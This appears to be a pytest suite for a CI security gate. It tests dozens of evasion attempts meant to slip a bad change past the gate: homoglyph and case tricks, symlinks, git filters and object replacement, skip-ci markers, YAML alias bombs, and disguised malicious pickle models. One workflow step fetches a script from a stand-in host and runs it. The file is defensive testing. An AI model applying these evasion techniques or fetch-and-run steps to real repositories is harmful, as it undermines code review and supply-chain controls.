# SPDX-License-Identifier: Apache-2.0
"""Ways round the gate, each tried: whoever changes a repository cannot turn a bad change green.

Every attempt starts from a merge target that is clean, makes a change with something bad in it, and does what an attacker would do
so that nobody sees it. Red is 1 (it was found), 2 (the change breaks its own configuration) or 6 (something could not be looked at);
0 and 3 would be a way round.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.unit.gate.pickles import gadget

BAD = "a\n"
GOOD = f"a==1 --hash=sha256:{'a' * 64}\n"
WORKFLOW = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: o/r@{}\n"
SHA = "0123456789abcdef0123456789abcdef01234567"
WAIVER = "version: 1\ngate:\n  waive:\n    - {check: requirement-unhashed, reason: r, owner: eve, until: 2999-01-01}\n    - {check: requirement-unpinned, reason: r, owner: eve, until: 2999-01-01}\n"


class Place:
    """A repository whose merge target is clean."""

    def __init__(self, guard: Callable[..., Any], repository: Any) -> None:
        self.guard, self.repository, self.path = guard, repository, repository.path
        repository.commit(
            "start", {"requirements.txt": GOOD, ".github/workflows/ci.yml": WORKFLOW.format(SHA), "model.bin": b"\x00weights"}
        )
        repository.git("switch", "-q", "-c", "topic")

    def commit(self, files: dict[str, str | bytes], message: str = "change") -> None:
        self.repository.commit(message, files)

    def gate(self, *words: str) -> Any:
        done = self.guard("gate", "--base", "main", *words, cwd=self.path)
        assert "Traceback" not in done.err
        return done


@pytest.fixture
def place(guard: Callable[..., Any], repository: Any) -> Place:
    return Place(guard, repository)


def zipped(content: bytes, depth: int) -> bytes:
    for level in range(depth):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr(f"data{level}.pkl", content)
        content = stream.getvalue()
    return content


def editing_the_policy(place: Place) -> None:
    place.commit({"requirements.txt": BAD, ".pipeline-guard.yml": "version: 1\ngate:\n  exclude: ['**']\n"})


def adding_a_waiver(place: Place) -> None:
    place.commit({"requirements.txt": BAD, ".pipeline-guard.yml": WAIVER})


def allowing_unchecked(place: Place) -> None:
    place.commit(
        {".github/workflows/ci.yml": "jobs: [", ".pipeline-guard.yml": "version: 1\ngate:\n  allow-unchecked: [action-unpinned]\n"}
    )


def breaking_the_workflow(place: Place) -> None:
    place.commit({".github/workflows/ci.yml": WORKFLOW.format("main")})


def adding_a_second_workflow(place: Place) -> None:
    place.commit({".github/workflows/ci.YAML": WORKFLOW.format("main")})


def hiding_a_second_manifest(place: Place) -> None:
    place.commit({"deep/down/below/dev-requirements.txt": BAD})


def changing_the_case_of_a_name(place: Place) -> None:
    place.commit({"sub/Requirements.TXT": BAD})


def two_names_that_differ_in_case(place: Place) -> None:
    place.commit({"REQUIREMENTS.txt": BAD})


def renaming_a_manifest(place: Place) -> None:
    place.repository.git("mv", "requirements.txt", "requirements-all.txt")
    place.commit({"requirements-all.txt": BAD})


def including_a_file_of_an_odd_name(place: Place) -> None:
    place.commit({"requirements.txt": GOOD + "-r notes.md\n", "notes.md": BAD})


def linking_a_manifest(place: Place) -> None:
    place.commit({"elsewhere": BAD})
    (place.path / "requirements.txt").unlink()
    (place.path / "requirements.txt").symlink_to("elsewhere")
    place.commit({})


def linking_out_of_the_tree(place: Place) -> None:
    (place.path / "requirements.txt").unlink()
    (place.path / "requirements.txt").symlink_to("/etc/hostname")
    place.commit({})


def hiding_by_gitignore(place: Place) -> None:
    place.repository.write("extra/requirements.txt", BAD)
    place.repository.write(".gitignore", "extra/\n")
    place.repository.git("add", "-f", "extra/requirements.txt")
    place.commit({})


def hiding_by_attributes(place: Place) -> None:
    place.commit({".gitattributes": "requirements.txt -diff export-ignore binary linguist-generated\n", "requirements.txt": BAD})


def a_filter_that_shows_something_else(place: Place) -> None:
    place.commit({".gitattributes": "requirements.txt filter=clean\n", "requirements.txt": BAD})
    place.repository.git("config", "filter.clean.smudge", f"printf '{GOOD.strip()}'")
    place.repository.git("config", "filter.clean.clean", "cat")


def another_encoding(place: Place) -> None:
    place.commit({"requirements.txt": BAD.encode("utf-16")})


def an_encoding_that_is_declared(place: Place) -> None:
    place.commit({"requirements.txt": b"# -*- coding: utf-7 -*-\n" + GOOD.encode()})


def a_nul_in_the_text(place: Place) -> None:
    place.commit({"requirements.txt": b"\0" + BAD.encode()})


def bytes_that_are_no_text(place: Place) -> None:
    place.commit({"requirements.txt": b"\xff\xfe\xfa" + BAD.encode()})


def line_ends_of_another_system(place: Place) -> None:
    place.commit({"requirements.txt": BAD.replace("\n", "\r").encode() + b"# " + GOOD.encode()})


def a_line_end_that_only_pip_knows(place: Place) -> None:
    place.commit({"requirements.txt": f"# harmless\x0c{BAD}".encode()})


def a_name_that_is_no_text(place: Place) -> None:
    path = os.fsencode(place.path) + b"/\xff\xfe-requirements.txt"
    Path(os.fsdecode(path)).write_text(BAD)
    place.commit({})


def a_name_with_a_line_end(place: Place) -> None:
    place.commit({"a\nrequirements.txt": BAD})


def a_name_that_looks_like_another(place: Place) -> None:
    place.commit({"requirements\u200b.txt": BAD, "wеights.bin": gadget()})


def a_model_in_disguise(place: Place) -> None:
    place.commit({"docs/picture.png": gadget()})


def a_model_in_archives_in_archives(place: Place) -> None:
    place.commit({"data.bin": zipped(gadget(), 12)})


def a_model_that_is_cut_off(place: Place) -> None:
    place.commit({"model.pkl": gadget()[:-3]})


def a_model_elsewhere_by_lfs(place: Place) -> None:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 12345\n"
    place.commit({"model.pt": pointer})


def a_repository_within(place: Place) -> None:
    inner = place.path / "vendor" / "inner"
    inner.mkdir(parents=True)
    for words in (("init", "-q", "-b", "main"), ("commit", "-q", "--allow-empty", "-m", "x")):
        place.repository.git("-C", str(inner), *words)
    (inner / "requirements.txt").write_text(BAD)
    place.repository.git("-C", str(inner), "add", "-A")
    place.repository.git("-C", str(inner), "commit", "-q", "-m", "y")
    place.repository.git("add", "vendor/inner")
    place.repository.git("commit", "-q", "-m", "submodule without a name")


def a_submodule(place: Place) -> None:
    a_repository_within(place)
    place.commit({".gitmodules": '[submodule "inner"]\n\tpath = vendor/inner\n\turl = https://git.example/inner\n'})


def telling_the_index_not_to_look(place: Place) -> None:
    place.commit({"requirements.txt": BAD})
    place.repository.git("update-index", "--assume-unchanged", "requirements.txt")


def leaving_a_file_out_of_the_work_tree(place: Place) -> None:
    place.commit({"requirements.txt": BAD})
    place.repository.git("update-index", "--skip-worktree", "requirements.txt")


def replacing_objects(place: Place) -> None:
    good = place.repository.git("rev-parse", "main")
    place.commit({"requirements.txt": BAD})
    place.repository.git("replace", place.repository.git("rev-parse", "HEAD"), good)


def grafting_history(place: Place) -> None:
    place.commit({"requirements.txt": BAD})
    head = place.repository.git("rev-parse", "HEAD")
    (place.path / ".git" / "info").mkdir(exist_ok=True)
    (place.path / ".git" / "info" / "grafts").write_text(f"{place.repository.git('rev-parse', 'main')} {head}\n")


def asking_to_be_skipped(place: Place) -> None:
    place.commit({"requirements.txt": BAD}, "[skip ci] [ci skip] ***NO_CI***")


def suppressing_in_the_file(place: Place) -> None:
    marker = "pipeline-guard" + ":allow"  # in one piece it would be one here
    place.commit({"requirements.txt": f"a  # {marker} requirement-unhashed harmless, noqa, nosec\n"})


def a_file_nobody_may_read(place: Place) -> None:
    place.commit({"requirements.txt": BAD})
    (place.path / "requirements.txt").chmod(0)
    if os.access(place.path / "requirements.txt", os.R_OK):  # root reads everything: take it away altogether
        (place.path / "requirements.txt").unlink()
        (place.path / "requirements.txt").mkdir()
        (place.path / "requirements.txt" / "requirements.txt").write_text(BAD)


def a_workflow_full_of_aliases(place: Place) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]" for level in range(1, 9)]
    place.commit({".github/workflows/ci.yml": "\n".join(lines)})


def the_same_key_twice(place: Place) -> None:
    place.commit({".github/workflows/ci.yml": WORKFLOW.format("main") + WORKFLOW.format(SHA).partition("\n")[2]})


def something_bad_in_the_merge_alone(place: Place) -> None:
    place.repository.git("switch", "-q", "-c", "side", "main")
    place.commit({"b.txt": "b"})
    place.repository.git("switch", "-q", "topic")
    place.repository.git("merge", "-q", "--no-ff", "--no-commit", "side")
    place.commit({"requirements.txt": BAD}, "merge")


def bad_and_good_again_in_another_file(place: Place) -> None:
    place.repository.git("mv", "requirements.txt", "requirements-dev.txt")
    place.commit({"requirements-dev.txt": GOOD + BAD})


def a_workflow_in_escapes(place: Place) -> None:
    text = WORKFLOW.format("v1").replace("uses: o/r@v1", '"us\\x65s": "o/\\u0072@v1"')
    place.commit({".github/workflows/ci.yml": text})


def a_workflow_in_bytes_of_another_kind(place: Place) -> None:
    place.commit({".github/workflows/ci.yml": WORKFLOW.format("v1").encode("utf-16")})


def a_workflow_by_an_anchor(place: Place) -> None:
    text = "x: &s {uses: o/r@v1}\non: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - *s\n"
    place.commit({".github/workflows/ci.yml": text})


def an_action_out_of_a_foreign_checkout(place: Place) -> None:
    steps = f"      - uses: actions/checkout@{SHA}\n        with: {{repository: eve/tools, path: t}}\n      - uses: ./t/action\n"
    place.commit({".github/workflows/ci.yml": WORKFLOW.format(SHA) + steps})


def a_script_out_of_a_foreign_repository(place: Place) -> None:
    steps = "      - run: |\n          git clone -q https://h.example/eve/tools t\n          ./t/run.sh\n"
    place.commit({".github/workflows/ci.yml": WORKFLOW.format(SHA) + steps})


def a_child_pipeline_of_another_name(place: Place) -> None:
    parent = "job:\n  trigger: {include: [{local: child.txt.yml}]}\n"
    place.commit({".gitlab-ci.yml": parent, "child.txt.yml": "a: {image: 'x:1', script: [y]}\n"})


def a_dockerfile_of_another_name(place: Place) -> None:
    place.commit(
        {"docker/web.docker": "FROM x:1\n", "compose.yml": "services: {a: {build: {context: ., dockerfile: docker/web.docker}}}\n"}
    )


def a_dockerfile_that_a_step_names(place: Place) -> None:
    steps = "      - run: docker build -f build/image.txt .\n"
    place.commit({"build/image.txt": "FROM x:1\n", ".github/workflows/ci.yml": WORKFLOW.format(SHA) + steps})


def a_model_behind_other_bytes(place: Place) -> None:
    place.commit({"model.bin": b"\x00weights" * 500 + gadget()})


def a_model_that_an_allowed_class_runs(place: Place) -> None:
    code = b"\x80\x02cscipy.stats._continuous_distns\nnorm_gen\n)\x81}X\x13\0\0\0_parse_arg_templateX\x09\0\0\0import os\nsb."
    place.commit({"model.pkl": code})


def a_lock_in_another_spelling(place: Place) -> None:
    place.commit({"Requirements-Prod.TXT": BAD, "sub/REQUIREMENTS.txt": BAD})


ATTEMPTS = [
    editing_the_policy, adding_a_waiver, allowing_unchecked, breaking_the_workflow, adding_a_second_workflow, hiding_a_second_manifest,
    changing_the_case_of_a_name, two_names_that_differ_in_case, renaming_a_manifest, including_a_file_of_an_odd_name, linking_a_manifest,
    linking_out_of_the_tree, hiding_by_gitignore, hiding_by_attributes, a_filter_that_shows_something_else, another_encoding,
    an_encoding_that_is_declared, a_nul_in_the_text, bytes_that_are_no_text, line_ends_of_another_system, a_line_end_that_only_pip_knows,
    a_name_that_is_no_text, a_name_with_a_line_end, a_name_that_looks_like_another, a_model_in_disguise, a_model_in_archives_in_archives,
    a_model_that_is_cut_off, a_model_elsewhere_by_lfs, a_repository_within, a_submodule, telling_the_index_not_to_look,
    leaving_a_file_out_of_the_work_tree, replacing_objects, grafting_history, asking_to_be_skipped, suppressing_in_the_file,
    a_file_nobody_may_read, a_workflow_full_of_aliases, the_same_key_twice,
    something_bad_in_the_merge_alone, bad_and_good_again_in_another_file, a_workflow_in_escapes, a_workflow_in_bytes_of_another_kind,
    a_workflow_by_an_anchor, an_action_out_of_a_foreign_checkout, a_script_out_of_a_foreign_repository, a_child_pipeline_of_another_name,
    a_dockerfile_of_another_name, a_dockerfile_that_a_step_names, a_model_behind_other_bytes, a_model_that_an_allowed_class_runs,
    a_lock_in_another_spelling,
]  # fmt: skip


def test_the_merge_target_itself_is_green(place: Place) -> None:
    place.commit({"readme.txt": "x"})
    assert place.gate().code == 0


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt.__name__)
def test_attempt_is_red(place: Place, attempt: Callable[[Place], None]) -> None:
    attempt(place)
    done = place.gate()
    assert done.code in (1, 6), f"{done.code}: {done.out}"


def test_a_tag_called_like_the_merge_target_does_not_take_its_place(place: Place) -> None:
    place.commit({"requirements.txt": BAD})
    place.repository.git("tag", "main")
    place.commit({"a.txt": "harmless"})
    done = place.gate()
    assert (done.code, "main names several commits: refs/heads/main, refs/tags/main" in done.err) == (2, True), done.err


def test_key_that_the_change_brings_vouches_for_nothing(place: Place) -> None:
    place.guard("keys", "create", "ci")
    place.guard("keys", "create", "eve")
    place.repository.git("switch", "-q", "main")
    place.guard("keys", "export-public", "ci", "--output", "ci.pem", cwd=place.path)
    place.commit({".pipeline-guard.yml": "version: 1\ngate:\n  artifacts:\n    - {path: 'dist/*', key: ./ci.pem}\n"})
    place.repository.git("switch", "-q", "-c", "other")
    place.guard("keys", "export-public", "eve", "--output", "ci.pem", cwd=place.path)
    place.commit({"dist/app": "evil"})
    assert place.guard("sign", "dist/app", "--key", "eve", cwd=place.path).code == 0
    place.commit({})
    assert place.gate().code == 1


def test_file_over_the_limit_is_never_passed_over(place: Place) -> None:
    with (place.path / "requirements.txt").open("wb") as stream:
        stream.truncate(257 * 1024 * 1024)
    place.commit({})
    done = place.gate("--format", "json")
    assert done.code == 6
    assert {check["status"] for check in json.loads(done.out)["checks"] if check["id"] == "requirement-unhashed"} == {"unchecked"}


def test_base_that_the_change_names_itself_is_nothing_to_look_at_and_never_green(place: Place) -> None:
    place.commit({"requirements.txt": BAD})
    done = place.guard("gate", "--base", "HEAD", cwd=place.path)
    assert done.code == 3
